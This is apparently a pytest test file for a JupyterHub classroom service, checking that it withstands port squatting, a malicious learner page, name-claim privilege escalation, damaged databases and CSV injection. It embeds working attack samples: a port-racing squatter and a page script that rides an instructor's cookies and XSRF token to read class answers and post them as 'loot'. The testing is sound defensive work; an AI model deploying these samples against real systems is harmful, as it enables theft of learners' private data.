"""A class under attack and fault: a learner's account racing for the components' ports, a learner's page opened
by an instructor, a name claimed with the class password made an instructor later, damaged and immutable
databases. Each test stands for one way the class was broken before; generated attempts, not real learners.

The port and immutable-file tests need root (to run a process as another account, to set the immutable flag);
`python3 dev.py test` runs as root in CI, and they say so and skip elsewhere.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import textwrap
import time
from urllib.parse import urljoin

import pytest
from classroom_hub import ROOT, Hub, http, login_form, make_attempt, wait_until

from classroom.jupyterhub_config import PORTS, configure, unprivileged_port_start
from classroom.service import open_class_store
from classroom.store import AnswerStore, Attempt

ROOT_ONLY = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                               reason="runs a process as an unprivileged account: needs root (CI has it)")


def free_low_ports(n: int) -> list[int]:
    """`n` ports below the first unprivileged one that nothing listens on (root binds them to check)."""
    found = []
    for port in range(990, 700, -1):
        with socket.socket() as s:
            try:
                s.bind(("127.0.0.1", port))
            except OSError:
                continue
        found.append(port)
        if len(found) == n:
            return found
    raise RuntimeError("no free privileged ports between 700 and 990")


# Runs as `nobody`: until a line arrives on its stdin (or `seconds` pass), races for every port on every address
# (a learner's process waiting for a component to die), and listens on any it gets, counting the bytes anyone
# sends it. A port it binds is reported; the last line is JSON.
SQUATTER = textwrap.dedent("""
    import json, select, socket, sys, time
    ports, until = json.loads(sys.argv[1]), time.monotonic() + float(sys.argv[2])
    got, received, refused = {}, {}, {}
    while True:
        for port in ports:
            for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"),
                                    (socket.AF_INET6, "::1")):
                if (port, address) in got:
                    continue
                s = socket.socket(family)
                try:
                    s.bind((address, port))
                    s.listen()
                    s.setblocking(False)
                    got[(port, address)] = s
                except OSError as err:
                    refused[str(port)] = err.strerror
                    s.close()
        for (port, address), s in got.items():
            try:
                conn, _ = s.accept()
                conn.settimeout(1)
                received[str(port)] = received.get(str(port), 0) + len(conn.recv(65536))
                conn.close()
            except OSError:
                pass
        if time.monotonic() > until or select.select([sys.stdin], [], [], 0.005)[0]:
            break
    print(json.dumps({"bound": sorted({str(p) for p, _ in got}), "received": received, "refused": refused}))
""")


def as_nobody() -> None:
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)


def squat(ports: list[int], seconds: float) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", SQUATTER, json.dumps(ports), str(seconds)], preexec_fn=as_nobody,
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/")


def test_pam_mode_listens_only_where_root_alone_may_and_refuses_otherwise(tmp_path):
    from traitlets.config import Config

    first = unprivileged_port_start()
    assert all(port < first for port in PORTS["pam"])  # the defaults of a class
    c = Config()
    configure(c, db_path=tmp_path / "data" / "c.sqlite", auth="pam")
    ports = [int(c.JupyterHub.bind_url.rsplit(":", 1)[1]), c.JupyterHub.hub_port,
             int(c.ConfigurableHTTPProxy.api_url.rsplit(":", 1)[1]),
             int(c.JupyterHub.services[0]["url"].rsplit(":", 1)[1])]
    assert ports == list(PORTS["pam"])
    for name, kw in (("DANTINOX_HUB_PORT", {"hub_port": 8000}), ("DANTINOX_CLASSROOM_PORT", {"service_port": 10101}),
                     ("DANTINOX_HUB_API_PORT", {"hub_api_port": 8081}),
                     ("DANTINOX_PROXY_API_PORT", {"proxy_api_port": 8001})):
        with pytest.raises(ValueError, match=f"^{name}: expected a port below {first} .*got "):
            configure(Config(), db_path=tmp_path / "data" / "c.sqlite", auth="pam", **kw)


@ROOT_ONLY
def test_a_learner_racing_for_every_port_after_kill_9_gets_nothing():
    """A learner's process (uid nobody) waits for each class component to die and races for its port; every
    bind is refused, nothing reaches it, answers sent meanwhile are not acknowledged and arrive after."""
    import psutil

    ports = free_low_ports(4)
    control = squat([free_low_ports(1)[0] + 40000], 0.5)  # the same process does bind an unprivileged port
    assert json.loads(control.communicate(timeout=30)[0].strip().splitlines()[-1])["bound"]
    h = Hub(managed=True, ports=tuple(ports))
    squatter, started = None, []
    try:
        h.start()
        wait_until(lambda: http("GET", h.service_url + "/api/me")[0] == 401, "the managed service", 60)
        h.add_users("lena")
        lena = h.token_for("lena")
        squatter = squat(ports, 60)

        def child(word: str) -> psutil.Process:
            found = [p for p in psutil.Process(h.proc.pid).children() if word in " ".join(p.cmdline())]
            started.extend(found)
            return found[0]

        def post(i: int) -> int:
            return http("POST", h.service_url + "/api/attempts", lena, make_attempt("lena", i), timeout=5)[0]

        assert post(0) == 200
        acked, start = 1, time.monotonic()
        child("classroom.service").kill()  # kill -9 of the service
        tries = 0
        while post(100 + tries) != 200:  # the learner's answer, sent again while the service is down
            tries += 1
            time.sleep(0.1)
        assert tries and time.monotonic() - start < 8  # restarted by the hub within seconds, not at a 30 s poll
        acked += 1
        child("classroom.proxy").kill()  # kill -9 of the proxy: the public port and the API port
        wait_until(lambda: post(200) == 200, "the hub to restart its proxy", 30)
        acked += 1
        service = child("classroom.service")
        child("classroom.proxy")
        h.proc.kill()  # kill -9 of the hub: its port is free for the squatter to try
        h.proc.wait(10)
        time.sleep(1.5)  # the squatter races for the dead hub's port a while
        out, _ = squatter.communicate("stop\n", timeout=60)
        report = json.loads(out.strip().splitlines()[-1])
        assert report["bound"] == [] and report["received"] == {}, report
        assert set(report["refused"]) == {str(p) for p in ports}  # it tried each, and was refused
        assert all(why == "Permission denied" for why in report["refused"].values()), report
        wait_until(lambda: not service.is_running() or service.status() == psutil.STATUS_ZOMBIE,
                   "the service of the killed hub to exit", 10)
        with contextlib.closing(sqlite3.connect(h.db)) as db:
            keys = [k for (k,) in db.execute("SELECT key FROM attempts WHERE learner = 'lena'")]
        assert len(keys) == len(set(keys)) == acked  # each acknowledged answer once, none of the refused ones
    finally:
        if squatter is not None and squatter.poll() is None:
            squatter.kill()
        for p in started:  # what the killed hub left running (its proxy)
            with contextlib.suppress(psutil.NoSuchProcess):
                p.kill()
        h.stop()


# A learner's "server": any page she serves from her own server (a jupyter_server_config.py in her home is
# enough for that). Opened by an instructor, it tries to read the class through the service with the
# instructor's cookies, and posts what it got back to itself.
LEARNER_PAGE = textwrap.dedent("""
    import json, os, sys
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from urllib.parse import urlparse
    loot_file, service = sys.argv[1], os.environ["DANTINOX_CLASSROOM_URL"]
    page = '''<html><body><script>
    (async () => {
      const found = {};
      for (const base of [SERVICE, "/services/classroom"]) {  // its origin, and a path on the page's own
        for (const path of ["/", "/api/attempts?format=json"]) {
          try {
            const r = await fetch(base + path, {credentials: "include"});
            found[base + path] = await r.text();
          } catch (e) { found[base + path] = "blocked: " + e; }
        }
      }
      try {
        const page = Object.values(found).find(text => text.includes('name="xsrf"')) || "";
        const xsrf = (page.match(/name="xsrf" content="([^"]+)"/) || [])[1];
        const r = await fetch("/services/classroom/api/attempts?format=json",
                              {credentials: "include", headers: {"X-XSRFToken": xsrf || ""}});
        found["with xsrf"] = await r.text();
      } catch (e) { found["with xsrf"] = "blocked: " + e; }
      await fetch("loot", {method: "POST", body: JSON.stringify(found)});
    })();
    </script>a notebook</body></html>'''.replace("SERVICE", json.dumps(service))
    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())
        def do_POST(self):
            body = self.rfile.read(int(self.headers["Content-Length"]))
            open(loot_file, "wb").write(body)
            self.send_response(204)
            self.end_headers()
    port = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"]).port
    ThreadingHTTPServer(("127.0.0.1", port), Page).serve_forever()
""")


def test_a_learners_page_opened_by_an_instructor_reads_nothing_of_the_class(tmp_path):
    from playwright.sync_api import sync_playwright

    sys.path.insert(0, str(ROOT / "tests" / "browser"))
    from chromium import find_chromium

    loot = tmp_path / "loot.json"
    home = tmp_path / "home" / "{username}"
    h = Hub(managed=False, extra_config=(
        "c.JupyterHub.spawner_class = 'simple'\nc.JupyterHub.default_url = '/hub/home'\n"
        f"c.Spawner.cmd = [{sys.executable!r}, '-c', {LEARNER_PAGE!r}, {str(loot)!r}]\n"
        f"c.SimpleLocalProcessSpawner.home_dir_template = {str(home)!r}\n"))
    try:
        h.start()
        h.add_users("eve", "olga")
        h.add_to_group("instructors", "olga")
        secret = make_attempt("olga", 0)  # something only instructors may read: another learner's answer
        assert http("POST", h.service_url + "/api/attempts", h.token_for("olga"), secret)[0] == 200
        h.admin("POST", "/users/eve/server")
        wait_until(lambda: h.admin("GET", "/users/eve")["servers"][""]["ready"], "eve's server", 60)
        server_url = h.admin("GET", "/users/eve")["servers"][""]["url"]  # where the hub serves it
        def instructor_opens_the_link() -> None:
            with sync_playwright() as p:
                browser = p.chromium.launch(executable_path=find_chromium(), args=["--no-sandbox"])
                page = browser.new_page()
                page.goto(h.url + "/hub/login")
                page.fill("input[name=username]", "olga")
                page.fill("input[name=password]", h.instructor_password)
                page.click("input[type=submit], button[type=submit]")
                page.wait_for_load_state()
                page.goto(h.service_url + "/")  # the instructor's dashboard: its OAuth cookie is now set
                assert "Classroom dashboard" in page.content()
                page.goto(urljoin(h.url, server_url + "notes"))  # a link eve sent: a page her server serves
                wait_until(loot.exists, "the learner's page to report", 30)
                browser.close()

        # its own thread: a browser test's Playwright may already run its loop in this worker's main thread
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            pool.submit(instructor_opens_the_link).result()
        found = json.loads(loot.read_text())
        assert found and not any(secret["key"] in text for text in found.values()), found
        assert not any("Classroom dashboard" in text for text in found.values()), found
    finally:
        h.stop()


def test_a_class_password_name_made_an_instructor_later_reads_nothing_until_the_instructor_password():
    h = Hub()
    try:
        h.start()
        h.add_users("olga")
        token = h.token_for("olga")
        assert http("POST", h.service_url + "/api/attempts", token, make_attempt("olga", 0))[0] == 200
        session, login = login_form(h, "mallory", h.class_password)  # claims a name no instructor has yet
        assert login.status_code == 302
        kernel = h.admin("POST", "/users/mallory/tokens", {"scopes": ["access:services!service=classroom"]})
        h.add_to_group("instructors", "mallory")  # an admin makes the name an instructor, for a real person
        assert http("GET", h.service_url + "/api/attempts", kernel["token"])[0] == 403
        page = session.get(h.service_url + "/", timeout=30)  # her earlier browser session
        assert "Classroom dashboard" not in page.text
        assert "olga" not in session.get(h.service_url + "/api/attempts?format=csv", timeout=30).text
        teacher, login = login_form(h, "mallory", h.instructor_password)  # the real instructor logs in
        assert login.status_code == 302
        wait_until(lambda: "Classroom dashboard" in teacher.get(h.service_url + "/", timeout=30).text,
                   "the instructor's dashboard", 10)  # once the service's role cache (5 s) asks the hub again
        wait_until(lambda: http("GET", h.service_url + "/api/attempts", kernel["token"])[0] == 401,
                   "the earlier token to be revoked", 10)  # TOKEN_CACHE_S
        assert "/hub/login" in session.get(h.url + "/hub/home", timeout=30).url  # the earlier hub session too
    finally:
        h.stop()


def test_a_damaged_database_is_set_aside_in_one_line_and_the_service_goes_on(tmp_path):
    path = tmp_path / "classroom.sqlite"
    store = AnswerStore(path)
    for i in range(300):
        store.add(Attempt.from_json(make_attempt("ada", i)))
    store.close()
    data = bytearray(path.read_bytes())
    data[8192:12288] = b"\xff" * 4096  # pages behind an intact header
    path.write_bytes(bytes(data))
    damaged = bytes(data)
    fresh, notice = open_class_store(path)
    assert notice.count("\n") == 0 and str(path) in notice and "kept aside untouched" in notice
    aside = next(tmp_path.glob("classroom.sqlite.damaged-*"))
    assert aside.read_bytes() == damaged and aside.name in notice
    assert fresh.count() == 0 and fresh.add(Attempt.from_json(make_attempt("ada", 0)))
    fresh.close()
    (tmp_path / "junk.sqlite").write_bytes(b"not a database" * 300)  # not SQLite at all
    store, notice = open_class_store(tmp_path / "junk.sqlite")
    assert "kept aside untouched" in notice and store.count() == 0
    store.close()


def test_the_service_started_on_a_damaged_database_says_one_line_and_serves(tmp_path):
    h = Hub()
    h.db.parent.mkdir(mode=0o700)
    h.db.write_bytes(b"SQLite format 3\x00" + b"\x13" * 8000)  # a header, then nothing SQLite can read
    try:
        h.start()
        log = h.service_log_text()
        lines = [line for line in log.splitlines() if "damaged" in line]
        assert len(lines) == 1 and "Traceback" not in log and "kept aside untouched" in lines[0]
        h.add_users("ada")
        assert http("POST", h.service_url + "/api/attempts", h.token_for("ada"), make_attempt("ada", 0))[0] == 200
    finally:
        h.stop()


@ROOT_ONLY
def test_an_immutable_database_refuses_writes_with_503_and_keeps_serving_reads():
    h = Hub()
    files = []
    try:
        h.start()
        h.add_users("ada")
        token = h.token_for("ada")
        kept = make_attempt("ada", 0)
        assert http("POST", h.service_url + "/api/attempts", token, kept)[0] == 200
        files = [p for p in (h.db, h.db.with_name(h.db.name + "-wal")) if p.exists()]
        if subprocess.run(["chattr", "+i", *map(str, files)], capture_output=True).returncode:
            pytest.skip("this file system has no immutable flag (chattr +i failed)")
        for i in range(1, 40):  # enough to need more WAL index than the first page: SIGBUS before
            status, body, _ = http("POST", h.service_url + "/api/attempts", token, make_attempt("ada", i))
            assert status == 503 and b"answer database unavailable" in body, body
        status, body, _ = http("GET", h.service_url + "/api/attempts/mine", token)
        assert status == 200 and kept["key"] in body.decode()
        assert h.service.poll() is None  # still running
        subprocess.run(["chattr", "-i", *map(str, files)], check=True)
        files = []
        assert http("POST", h.service_url + "/api/attempts", token, make_attempt("ada", 50))[0] == 200
    finally:
        if files:
            subprocess.run(["chattr", "-i", *map(str, files)])
        h.stop()


def test_out_of_range_numbers_and_a_dead_hub_are_not_500():
    h = Hub()
    try:
        h.start()
        h.add_users("ada")
        token = h.token_for("ada")
        for change in ({"time": 10 ** 400}, {"params": {"T": 10 ** 400}}):
            status, body, _ = http("POST", h.service_url + "/api/attempts", token, {**make_attempt("ada", 0), **change})
            assert status == 400 and json.loads(body)["error"].startswith("attempts[0]: attempt."), body
        os.killpg(h.proc.pid, signal.SIGKILL)  # the hub and its proxy die; the service has not noticed yet
        h.proc.wait(10)
        status, body, _ = http("POST", h.direct_url + "/api/attempts", token + "0", make_attempt("ada", 1))
        assert status == 503 and b"try again" in body
    finally:
        h.stop()


def test_attempt_exports_quote_a_bare_carriage_return():
    import csv
    import io

    from classroom.service import attempts_csv

    rows = [Attempt.from_json({**make_attempt("ada", 0), "response": "\r6", "question": "q\rwith\nbreaks"})]
    text = attempts_csv(rows)
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) == 2 and table[1][list(Attempt.__dataclass_fields__).index("response")] == "'\r6"
